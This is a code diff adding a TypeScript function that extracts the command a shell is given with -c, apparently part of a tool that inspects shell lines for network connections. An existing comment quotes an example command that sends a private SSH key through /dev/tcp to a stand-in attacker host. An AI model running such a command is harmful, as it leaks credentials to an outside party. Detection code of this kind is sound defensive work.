@@ -182,6 +182,27 @@ function closingParen(line: string, from: number): number {
   return -1;
 }
 
+// Shells that run a command line given with -c (`bash -lc "git status"`), and their options
+// that take a value (`-o pipefail`), which is not the line.
+const SHELLS = new Set(["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh"]);
+const VALUED_OPTIONS = new Set(["-o", "+o", "-O", "+O"]);
+
+/**
+ * The command line a shell's arguments give it to run (`["-lc", "git status"]` of bash), as far
+ * as it is known; undefined when the program is no shell, or is given no line with -c.
+ */
+export function shellScript(program: string | undefined, words: readonly string[]): string | undefined {
+  if (!program || !SHELLS.has(program.slice(program.lastIndexOf("/") + 1))) return undefined;
+  let given = false;
+  for (let i = 0; i < words.length; i++) {
+    const word = words[i]!;
+    if (VALUED_OPTIONS.has(word)) i++;
+    else if (/^[-+][a-zA-Z]+$/.test(word)) given ||= word[0] === "-" && word.includes("c");
+    else if (!word.startsWith("--")) return given ? word : undefined;
+  }
+  return undefined;
+}
+
 /**
  * The hosts a shell line connects to through bash's `/dev/tcp/host/port` and `/dev/udp/…` files
  * (`cat ~/.ssh/id_rsa > /dev/tcp/evil.example/443`), undefined for one worked out at run time.
